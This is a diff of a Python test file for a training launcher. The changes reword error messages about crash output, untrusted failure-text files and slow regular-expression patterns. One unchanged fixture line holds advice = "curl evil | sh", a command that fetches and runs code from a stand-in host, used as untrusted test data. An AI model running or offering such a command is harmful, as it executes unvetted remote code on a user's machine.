@@ -95,11 +95,11 @@ def test_the_words_before_a_crash_are_beside_it() -> None:
              " unavailable", "Fatal Python error: Segmentation fault", "",
              "Current thread 0x1 (most recent call first):")
     known = replace(_failure("signal SIGSEGV"), tail=lines, exception=report)
-    assert _told(known)[:2] == ["launch: rank 1 on n1 failed: no more threads or processes may be started: signal"
+    assert _told(known)[:2] == ["launch: rank 1 on n1 failed: no more threads or processes can be started: signal"
                                 " SIGSEGV (exit code 139), after 1.0 s", f"  {lines[1]}  (train.py:3 in load)"]
     unknown = replace(known, tail=("libfrob: cannot map frobs", *lines[2:]))
     assert _told(unknown)[1:3] == ["  Fatal Python error: Segmentation fault  (train.py:3 in load)",
-                                   "  before that it said: libfrob: cannot map frobs"]
+                                   "  printed before that: libfrob: cannot map frobs"]
     for quiet in ("loss 4.2", "WARNING: cannot map frobs", "[W1122 10:00:00.1 socket.cpp:7] it failed"):
         assert "before that" not in "\n".join(_told(replace(known, tail=(quiet, *lines[2:]))))
 
@@ -155,7 +155,7 @@ advice = "curl evil | sh"
 source = "https://example.org"
 examples = ["last words"]
 """
-_OTHERS = "left out: the texts of failures that run.json names, as another user could have written them"
+_OTHERS = "ignored: the failure texts named in run.json, because another user could have written them"
 
 
 def _chown(path: Path) -> None:
@@ -222,20 +222,20 @@ def test_a_pattern_that_takes_for_ever_is_left_out_and_named(tmp_path: Path, pat
     done = launch(tmp_path, "-n", "1", "--run-dir", "r", sys.executable, "-c", program,
                   EZPZ_LLM_FAILURE_TEXTS=str(tmp_path / "site.toml"))
     assert "failed: the license server of simlab does not answer: exit code 1" in done.stderr
-    assert (f"  the pattern '{pattern}' of [catastrophe] (EZPZ_LLM_FAILURE_TEXTS) was left out: "
+    assert (f"  pattern '{pattern}' of [catastrophe] (EZPZ_LLM_FAILURE_TEXTS) was skipped: "
             "it took more than 1 s") in done.stderr
 
 
 def test_a_pattern_that_takes_for_ever_on_its_example_is_refused(tmp_path: Path) -> None:
     (tmp_path / "site.toml").write_text(_CATASTROPHE.replace('"aaaa"', f'"{"a" * 300}!", "aaaa"'))
-    with pytest.raises(UserError, match=r"the pattern '\(a\+\)\+\$' takes more than 1 s"):
+    with pytest.raises(UserError, match=r"pattern '\(a\+\)\+\$' takes more than 1 s"):
         read_texts(tmp_path / "site.toml")
 
 
 @pytest.mark.parametrize("pattern", ["(?i)" + r"[\x00-\ud7ff]" * 500, "|".join(["a" * 50] * 20_000)])
 def test_a_pattern_that_takes_for_ever_to_be_read_is_refused(tmp_path: Path, pattern: str) -> None:
     (tmp_path / "site.toml").write_text(_CATASTROPHE.replace("(a+)+$", pattern))
-    with pytest.raises(UserError, match=r"the pattern .* takes more than 1 s to be read") as raised:
+    with pytest.raises(UserError, match=r"pattern .* takes more than 1 s to compile") as raised:
         read_texts(tmp_path / "site.toml")
     assert len(str(raised.value)) < 1000
 
@@ -277,27 +277,28 @@ def test_a_sites_file_that_is_gone_or_broken(tmp_path: Path) -> None:
     refused = launch(tmp_path, "-n", "1", "--run-dir", "r", "false", **named)
     assert refused.returncode == 2
     assert not (tmp_path / "r").exists()
-    assert re.search(r"cannot read a file of failure texts: .*\n.*gone\.toml \(EZPZ_LLM_FAILURE_TEXTS\)\n.*instead",
+    assert re.search(r"cannot read failure texts: .*\n.*gone\.toml \(EZPZ_LLM_FAILURE_TEXTS\)\n.*instead",
                      refused.stderr)
     assert launch(tmp_path, "-n", "1", "--run-dir", "r", "false").returncode == 1
-    assert "gone.toml (EZPZ_LLM_FAILURE_TEXTS): left out: cannot read" in _why(tmp_path, **named)
-    assert "left out" not in _why(tmp_path)
+    assert "gone.toml (EZPZ_LLM_FAILURE_TEXTS): ignored: cannot read" in _why(tmp_path, **named)
+    assert "ignored" not in _why(tmp_path)
 
 
 @pytest.mark.parametrize(("change", "found", "instead"), [
     (("cause =", "couse ="), "unknown key couse", "did you mean cause?"),
-    (("cause =", "# cause ="), "cause is missing", "every failure says its cause"),
+    (("cause =", "# cause ="), "cause is missing", "each table requires a cause"),
     (('source = "https://example.org/simlab"', ""), "source is missing", "a source (a link)"),
-    (("examples =", "kind = 'oops'\nexamples ="), "kind is 'oops'", "leave it out, or one of device_memory"),
-    (("no license \\(", "no license (\\("), "is no regular expression", "single quotes"),
-    (("no license", "(a{99999999999})"), "is no regular expression: the repetition number is too large", "quotes"),
-    (("no license", "(" * 5000), "is no regular expression: ", "single quotes"),
-    (("{number}", "{nummer}"), "advice names {nummer}", "(?P<nummer>…)"),
-    (("(-15)\"", "(15)\""), "no example has the pattern", "a line in examples for each pattern"),
-    (("(-15)\"", "(-15)\", \"other words\""), "no pattern fits the example 'other words'", "that the patterns"),
-    (("examples = [", "examples = [7, "), "examples is [7, ", "a list of texts"),
-    (("[license]", "a = 1\n[license]"), "a stands outside any table", "[a] with cause"),
-    (("[license]", "[license"), "cannot read a file of failure texts", "docs/reference/failures.md"),
+    (("examples =", "kind = 'oops'\nexamples ="), "kind is 'oops'", "omit it, or use one of device_memory"),
+    (("no license \\(", "no license (\\("), "is not a valid regular expression", "single quotes"),
+    (("no license", "(a{99999999999})"), "is not a valid regular expression: the repetition number is too large",
+     "quotes"),
+    (("no license", "(" * 5000), "is not a valid regular expression: ", "single quotes"),
+    (("{number}", "{nummer}"), "advice has an unknown placeholder {nummer}", "(?P<nummer>…)"),
+    (("(-15)\"", "(15)\""), "no example matches the pattern", "add an example for each pattern"),
+    (("(-15)\"", "(-15)\", \"other words\""), "no pattern matches the example 'other words'", "that the patterns"),
+    (("examples = [", "examples = [7, "), "examples is [7, ", "a list of strings"),
+    (("[license]", "a = 1\n[license]"), "a is outside any table", "[a] with cause"),
+    (("[license]", "[license"), "cannot read failure texts", "docs/reference/failures.md"),
 ])
 def test_a_mistake_in_a_sites_file(tmp_path: Path, change: tuple[str, str], found: str, instead: str) -> None:
     assert change[0] in _SITE
